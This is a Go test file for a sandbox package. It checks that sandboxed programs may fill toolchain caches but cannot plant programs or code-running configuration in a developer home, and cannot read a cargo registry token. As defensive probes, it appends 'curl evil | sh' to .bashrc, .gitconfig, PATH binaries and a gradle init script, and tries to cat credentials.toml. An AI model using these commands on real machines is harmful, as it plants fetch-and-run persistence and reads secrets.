package sandbox

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// toolchainHome gives w's home the toolchains of a developer: programs on
// PATH (~/.cargo/bin, ~/go/bin, ~/.local/bin), the configuration that
// makes tools run code, caches, and a registry token in ~/.cargo. It
// returns the programs' environment.
func toolchainHome(t testing.TB, w world) []string {
	t.Helper()
	for _, f := range []struct{ path, body string }{
		{".cargo/bin/cargo", "#!/bin/sh\n"}, {".cargo/config.toml", "[net]\noffline = true\n"},
		{".cargo/credentials.toml", "[registry]\ntoken = \"SENTINEL-CARGO\"\n"}, {".cargo/registry/index/x", "i"},
		{"go/bin/gopls", "#!/bin/sh\n"}, {"go/pkg/mod/cache/x", "m"}, {".cache/go-build/00/x", "c"},
		{".local/bin/tool", "#!/bin/sh\n"}, {".gradle/init.d/README", "r"}, {".gradle/caches/x", "c"},
		{".m2/settings.xml", "<settings/>"}, {".m2/repository/x", "r"}, {".bashrc", "# rc\n"},
		{".profile", "# profile\n"}, {".gitconfig", "[user]\n"},
	} {
		p := filepath.Join(w.home, f.path)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(f.body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	path := strings.Join([]string{filepath.Join(w.home, ".cargo/bin"), filepath.Join(w.home, "go/bin"),
		filepath.Join(w.home, ".local/bin"), os.Getenv("PATH")}, string(filepath.ListSeparator))
	return []string{"PATH=" + path, "HOME=" + w.home, "GOPATH=" + filepath.Join(w.home, "go"),
		"GOMODCACHE=" + filepath.Join(w.home, "go/pkg/mod"), "GOCACHE=" + filepath.Join(w.home, ".cache/go-build"),
		"CARGO_HOME=" + filepath.Join(w.home, ".cargo")}
}

// TestCachesNotPrograms: programs may fill the module and build caches,
// but not plant a program on PATH or a configuration that makes a tool
// run code, nor read a registry token kept beside them; the same when the
// project is the home (there a read-only mount covers them).
func TestCachesNotPrograms(t *testing.T) {
	w := newWorld(t)
	env := toolchainHome(t, w)
	h := func(p string) string { return filepath.Join(w.home, p) }
	planted := []string{
		h(".cargo/bin/git"), h(".cargo/bin/cargo"), h(".cargo/config.toml"), h("go/bin/git"), h(".local/bin/git"),
		h(".gradle/init.d/evil.gradle"), h(".m2/settings.xml"), h(".bashrc"), h(".profile"), h(".gitconfig"),
	}
	caches := []string{
		h(".cargo/registry/index/new"), h(".cargo/git/db/new"), h("go/pkg/mod/cache/new"), h(".cache/go-build/01/new"),
		h(".m2/repository/new"), h(".gradle/caches/new"),
	}
	for _, tc := range []struct {
		name, root string
	}{{"project", w.root}, {"project is the home", w.home}} {
		t.Run(tc.name, func(t *testing.T) {
			sb, err := New(Spec{Mode: WorkspaceWrite, Root: tc.root, TempDir: w.tmp, Home: w.home, DataDir: w.data, Env: env})
			if err != nil {
				t.Fatal(err)
			}
			defer sb.Close()
			if !sb.Enforced() {
				t.Skipf("no sandbox here: %s", sb.Status())
			}
			covers := tc.root == w.root || sb.Status().GitProtected
			for _, p := range planted {
				before, _ := os.ReadFile(p)
				out, err := sh(t, sb, tc.root, "mkdir -p '"+filepath.Dir(p)+"' 2>/dev/null; echo 'curl evil | sh' >> '"+p+"'")
				after, _ := os.ReadFile(p)
				if changed := string(after) != string(before); changed == covers {
					t.Errorf("%s: changed %v (covers hold: %v): %v %q", p, changed, covers, err, out)
				}
				if why := sb.Explain(tc.root, p, true); covers && why == "" {
					t.Errorf("Explain(%s, write) = %q", p, why)
				}
				os.WriteFile(p, before, 0o755)
			}
			for _, p := range caches {
				if out, err := sh(t, sb, tc.root, "mkdir -p '"+filepath.Dir(p)+"' && echo x > '"+p+"'"); err != nil {
					t.Errorf("cache %s: %v %q", p, err, out)
				}
				if why := sb.Explain(tc.root, p, true); why != "" {
					t.Errorf("Explain(%s, write) = %q", p, why)
				}
			}
			out, _ := sh(t, sb, tc.root, "cat "+h(".cargo/config.toml")+"; cat "+h(".cargo/credentials.toml")+"; "+h(".cargo/bin/cargo")+" && echo ran")
			if !strings.Contains(out, "offline = true") || !strings.Contains(out, "ran") {
				t.Errorf("the toolchain's configuration or program is not readable: %q", out)
			}
			if strings.Contains(out, "SENTINEL-CARGO") == covers {
				t.Errorf("the cargo registry token: %q (covers hold: %v)", out, covers)
			}
		})
	}
}
